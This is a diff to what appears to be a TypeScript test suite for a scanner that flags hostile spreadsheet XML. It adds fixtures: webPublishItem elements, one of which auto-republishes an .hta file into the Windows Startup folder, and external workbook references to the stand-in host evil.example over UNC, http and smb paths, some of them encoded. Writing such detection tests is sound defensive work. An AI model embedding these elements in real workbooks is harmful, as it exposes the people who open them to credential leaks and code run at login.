@@ -66,10 +66,38 @@ const inPieces = [
 
 /** Attributes that name the file of something. */
 const fetched = [
-  '<webPublishItem destinationFile="\\\\evil.example\\share\\a.htm"/>',
   '<Schema SchemaRef="http://evil.example/a.xsd"/>',
   '<DataBinding FileBinding="true" FileBindingName="//evil.example/share/a.xml"/>',
 ];
+
+/** Pages that Excel writes whenever the workbook is saved. */
+const publishing = [
+  '<webPublishItem destinationFile="\\\\evil.example\\share\\a.htm"/>',
+  '<webPublishItem destinationFile="C:\\Users\\Public\\Start Menu\\Programs\\Startup\\x.hta" autoRepublish="1"/>',
+  '<webPublishItems count="1"/>',
+  '<p:webPublishObject destinationFile="a.htm" autoRepublish="1"/>',
+  '<webPublishObjects count="1"/>',
+];
+
+/** Names of a sheet or a range in a workbook elsewhere. */
+const namesElsewhere = [
+  '[\\\\evil.example\\s\\x.xlsx]S',
+  "'[\\\\evil.example\\s\\x.xlsx]S'",
+  '[//evil.example/s/x.xlsx]S',
+  '\\\\evil.example\\s\\[x.xlsx]S',
+  '\\\\evil.example\\s\\x.xlsx!N',
+  'http://evil.example/x.xlsx!N',
+  '[http:evil/x.xlsx]S',
+  '[%5c%5cevil.example%5cs%5cx.xlsx]S',
+  '[smb:evil/x.xlsx]S',
+  '[\\??\\UNC\\evil.example\\x.xlsx]S',
+  'C:\\[\\\\evil.example\\s\\x.xlsx]S',
+];
+const sourceElements = ['worksheetSource', 'rangeSet', 'dataRef'].flatMap((element) =>
+  ['name', 'sheet'].flatMap((attribute) =>
+    namesElsewhere.map((one) => `<${element} ref="A1:B2" ${attribute}="${one}"/>`),
+  ),
+);
 
 /** What says where a workbook has its values from. */
 const connections = [
@@ -92,6 +120,8 @@ const servers = [
 const workbooks: [what: string, file: Buffer, because: Hostile['because']][] = [
   ...places.map((place): (typeof workbooks)[number] => [place, workbook(sheet(place)), 'a formula that fetches']),
   ...fetched.map((one): (typeof workbooks)[number] => [one, workbook(sheet(one)), 'fetched from elsewhere']),
+  ...publishing.map((one): (typeof workbooks)[number] => [one, workbook(sheet(one)), 'to a web page by itself']),
+  ...sourceElements.map((one): (typeof workbooks)[number] => [one, workbook(sheet(one)), 'fetched from elsewhere']),
   ...inPieces.map((place): (typeof workbooks)[number] => [place, workbook(sheet(place)), 'locked or broken']),
   ...connections.map((one): (typeof workbooks)[number] => [
     one,
